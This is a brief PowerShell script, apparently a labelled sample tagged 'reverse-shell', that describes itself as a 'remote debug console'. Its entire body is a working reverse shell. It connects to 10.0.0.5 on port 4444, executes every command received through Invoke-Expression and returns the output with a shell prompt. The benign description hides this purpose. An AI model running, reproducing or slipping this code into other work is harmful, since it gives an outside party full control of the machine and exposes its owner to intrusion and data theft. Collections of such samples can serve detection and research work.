# description: Opens a "remote debug console" that connects to an external host and executes whatever commands it sends.
# family: reverse-shell
$client = New-Object System.Net.Sockets.TCPClient('10.0.0.5', 4444)
$stream = $client.GetStream()
[byte[]]$buffer = 0..65535 | ForEach-Object { 0 }
while (($n = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $cmd = (New-Object System.Text.ASCIIEncoding).GetString($buffer, 0, $n)
    $out = (Invoke-Expression $cmd 2>&1 | Out-String)
    $reply = [System.Text.Encoding]::ASCII.GetBytes($out + 'PS ' + (Get-Location).Path + '> ')
    $stream.Write($reply, 0, $reply.Length)
    $stream.Flush()
}
$client.Close()
